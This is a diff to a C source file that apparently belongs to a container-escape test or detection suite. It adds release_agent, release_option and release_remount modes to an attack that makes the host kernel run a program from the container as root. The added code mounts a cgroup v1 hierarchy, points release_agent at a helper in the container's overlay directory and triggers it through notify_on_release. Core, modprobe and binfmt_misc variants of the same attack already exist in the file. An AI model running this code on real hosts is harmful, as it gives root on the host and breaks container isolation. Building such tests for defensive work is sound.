@@ -1,5 +1,6 @@
 /*
- * The kernel runs a program for the container, outside of it, as root. Argument: core, modprobe, binfmt.
+ * The kernel runs a program for the container, outside of it, as root. Argument: core, modprobe, binfmt,
+ * release_agent, release_option, release_remount.
  * The program is a file of the container's own root. Must be seen: a record of the container with its
  * digest, or that it set what the kernel runs.
  */
@@ -22,6 +23,33 @@ static void host_path(char *path, size_t size)
 			break;
 		}
 	fclose(mounts);
+}
+
+/* A hierarchy of control groups without a controller, which any kernel with version 1 has. */
+static void release(char **argv, const char *helper)
+{
+	char text[64], option[4300];
+
+	snprintf(text, sizeof(text), "none,name=%s", argv[0]);
+	snprintf(option, sizeof(option), "%s,release_agent=%s", text, helper);
+	if (mount("none", "/mnt", "cgroup", 0, is_mode(argv, "release_option") ? option : text) < 0) {
+		if (errno == ENODEV)
+			absent("control groups of version 1");
+		must(-1, "mount cgroup");
+	}
+	if (is_mode(argv, "release_agent"))
+		write_text("/mnt/release_agent", helper);
+	if (is_mode(argv, "release_remount"))
+		must(mount("none", "/mnt", "cgroup", MS_REMOUNT, option), "remount cgroup");
+	must(mkdir("/mnt/group", 0755), "mkdir");
+	write_text("/mnt/group/notify_on_release", "1");
+	if (!must(fork(), "fork")) {
+		write_text("/mnt/group/tasks", "0");
+		_exit(0);
+	}
+	wait(0);
+	sleep(1);
+	rmdir("/mnt/group");
 }
 
 ATTACK(run_by_kernel)
@@ -50,6 +78,9 @@ ATTACK(run_by_kernel)
 		socket(21, SOCK_STREAM, 0);
 		sleep(1);
 		write_text("/proc/sys/kernel/modprobe", "/sbin/modprobe");
+	} else if (!is_mode(argv, "binfmt")) {
+		snprintf(text, sizeof(text), "%s/tmp/helper", upper);
+		release(argv, text);
 	} else {
 		must(mount("none", "/mnt", "binfmt_misc", 0, 0), "mount binfmt_misc");
 		write_file("/tmp/interpreter", evil_program, evil_program_end - evil_program, 0755);
